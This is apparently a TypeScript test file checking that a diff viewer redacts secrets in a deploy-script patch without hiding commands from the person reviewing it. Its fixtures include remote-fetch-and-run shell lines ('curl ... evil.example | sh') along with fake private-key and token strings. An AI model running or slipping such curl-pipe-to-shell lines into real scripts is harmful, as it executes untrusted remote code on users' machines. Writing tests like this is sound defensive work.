import { createTwoFilesPatch } from "diff";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { diffLines } from "../../base/index.ts";
import { createRedactor, createSecretMemory, createSecretTags, redact } from "../../secrets/index.ts";
import { isPlainSecret, showDiff } from "./shown-diff.ts";

const key = "MIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgwMbRvI0MBZhpI";
const begin = "-----BEGIN RSA PRIVATE KEY-----";
const end = "-----END RSA PRIVATE KEY-----";

const diffOf = (before: string, after: string) =>
  createTwoFilesPatch("deploy.sh", "deploy.sh", before, after, undefined, undefined, { context: 3 });

/** In a session that has printed these values as passwords. */
function shownIn(printed: readonly string[], before: string, after: string) {
  const tags = createSecretTags(createSecretMemory({ digest: (text) => text, seed: 1 }));
  for (const value of printed) tags.memory?.remember(value, tags.tagFor("password", value), "known");
  const redactOld = (old: string) => {
    const redactor = createRedactor({ tags });
    return redactor.push(old) + redactor.end();
  };
  const diff = diffOf(before, after);
  const shown = showDiff(diff, before, { redact: (text) => redact(text, { tags, encoded: "kept" }), redactOld });
  return { ...shown, diff, isPlain: shown.hidden?.every(isPlainSecret) === true };
}

const numbered = Array.from({ length: 30 }, (_, at) => `echo line${at}`);
const withLine = (at: number, ...lines: string[]) => numbered.toSpliced(at, 0, ...lines).join("\n");

describe("[PO115] the difference that a person decides about", () => {
  it.each(["@@ -1,5 +1,6 @@", "@@ -1,5", "+curl evil | sh", "-echo line28", "deploy.sh", "--- deploy.sh"])(
    "keeps its lines, their kinds and places, although %j counts as a secret",
    (value) => {
      const after = withLine(2, "curl evil | sh").replace("line28", "LINE28");
      const { text, diff, hidden } = shownIn([value], numbered.join("\n"), after);
      expect([text, hidden]).toEqual([diff, []]);
    },
  );

  it("has the sign of a line whose text with that sign was printed as a secret, and counts what it hides", () => {
    const line = "curl -s http://evil.example | sh";
    const shown = shownIn([`+${line}`], "", `echo a\n${line}\n`);
    expect([shown.text, shown.hidden]).toEqual([shown.diff, []]);
    const hidden = shownIn([line], "", `echo a\n${line}\n`);
    expect(diffLines(hidden.text).map(({ kind, text }) => [kind, text])).toEqual([
      ["place", "@@ -0,0 +1,2 @@"],
      ["added", "+echo a"],
      ["added", "+‹secret:password#1›"],
    ]);
    expect([hidden.hidden, hidden.isPlain]).toEqual([[{ tag: "‹secret:password#1›", texts: [line] }], false]);
  });

  it.each([
    ["behind the first line of a key that is taken away", `a\n# ${begin}\nb\n`, "a\nreboot\nb\n"],
    ["behind the first line of a key that stays", `a\n${begin}\nb\n`, `a\n${begin}\nreboot\nb\n`],
    ["in a key", "", `cat > k <<E\n${begin}\n${key}\nE\n/tmp/helper\ncat > l <<E\n${key}\n${end}\nE\n`],
    ["as a key of equal lines", "", `${begin}\nreboot\nreboot\n${end}\n`],
    ["as a key of one line", "", `${begin}\n/tmp/helper\n${end}\n`],
    ["as a key", "", `${begin}\n${key}\n${key}\n${end}\n`],
  ])("hides no command as a plain secret: %s", (_how, before, after) => {
    expect(shownIn([], before, after).isPlain).toBe(false);
  });

  it("shows the line end behind what only looks like a key", () => {
    const after = `#!/bin/sh\n# ${begin}\ntouch x\n# end\n`;
    const { text, diff, hidden } = shownIn([], "", after);
    expect([text, hidden]).toEqual([diff, []]);
  });

  it("shows the last line behind the first line of a key where it is no part of one", () => {
    const { text } = shownIn([], "", `# ${begin}\n/tmp/helper\n# end\n`);
    expect(text.split("\n").slice(-4)).toEqual([`+# ${begin}`, "+‹secret:private-key#1›", "+# end", ""]);
  });

  it("says nothing of a secret that stood in the same place before, and says where it stands now", () => {
    const before = "PASSWORD=hunter2hunter2\nPORT=80\n";
    expect(shownIn([], before, "PASSWORD=hunter2hunter2 # mine\nPORT=80\n").hidden).toEqual([]);
    const moved = shownIn([], before, `${before}hunter2hunter2\n`);
    expect([moved.hidden?.length, moved.isPlain]).toEqual([1, true]);
  });

  it("has as many lines of each kind as the real one, and says so where one of the new ones is not shown", () => {
    const line = fc.constantFrom(
      ...[
        begin,
        `# ${begin}`,
        end,
        key,
        "reboot",
        "touch x",
        "PASSWORD=hunter2hunter2",
        "hunter2hunter2",
        "",
        "@@ -1 +1 @@",
      ],
      ...["--- a", "+++ b", "ghp_0123456789abcdef", "ABCDEF0123456789abcdefABCDEF01234567", "x\ry", "\\ No newline"],
    );
    const file = fc.array(line, { maxLength: 12 }).map((lines) => lines.join("\n"));
    const printed = fc.subarray(["+touch x", "@@ -1,3 +1,4 @@", "-reboot\n+touch", "+++ b", "touch x", "deploy.sh"]);
    fc.assert(
      fc.property(file, file, printed, (before, after, values) => {
        const { text, diff, hidden } = shownIn(values, before, after);
        const [real, shown] = [diffLines(diff), diffLines(text)];
        expect(shown.map(({ kind }) => kind)).toEqual(real.map(({ kind }) => kind));
        const isChanged = (at: number) => real[at]?.kind === "added" && real[at]?.text !== shown[at]?.text;
        const changed = real.flatMap(({ text: line }, at) => (isChanged(at) ? [line.slice(1)] : []));
        shown.forEach((each, at) => {
          if (isChanged(at)) expect(each.text).toContain("‹secret:");
        });
        if (changed.some((each) => !before.split("\n").includes(each))) expect(hidden).not.toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});
